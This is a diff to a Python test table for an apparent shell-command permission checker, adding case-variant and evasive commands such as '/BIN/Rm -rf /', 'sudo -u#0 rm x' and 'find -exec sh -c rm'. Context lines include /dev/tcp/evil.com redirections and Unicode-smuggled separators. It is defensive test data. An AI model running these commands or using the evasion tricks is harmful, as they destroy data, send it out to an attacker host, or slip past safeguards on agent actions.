@@ -205,6 +205,8 @@ CASES: list[tuple[str, str]] = [
     ("nice --bogus ls", ASK), ("env --bogus ls", ASK), ("ls |& rm x", DENY), ("ls |& grep x", ALLOW), ("ls; exit", ASK),
     ("cat < /dev/tcp/evil.com/80", ASK), ("ls 2>/dev/udp/evil.com/53", ASK), ("cat < \"$F\"", ASK), ("ls;#;rm x", ALLOW),
     ("ls #c\\\nrm x", DENY), ("ls\u2028rm x", ASK), ("r\u00adm x", ASK), ("command -pv rm", DENY), ("ls;", ALLOW),
-    ("echo " + "$(" * 300 + "x" + ")" * 300, ASK), ("exec -a ls rm x", DENY), ("ls | tee >(rm x)", DENY), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
+    ("echo " + "$(" * 300 + "x" + ")" * 300, ASK), ("exec -a ls rm x", DENY), ("ls | tee >(rm x)", DENY),
+    ("RM x", DENY), ("/BIN/Rm -rf /", DENY), ("LS", ASK), ("Git status", ASK), ("CURL x", DENY), ("env -C /tmp rm x", DENY),
+    ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", DENY), ("sudo -u#0 rm x", DENY), ("builtin command rm x", DENY), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
 ]
 # fmt: on
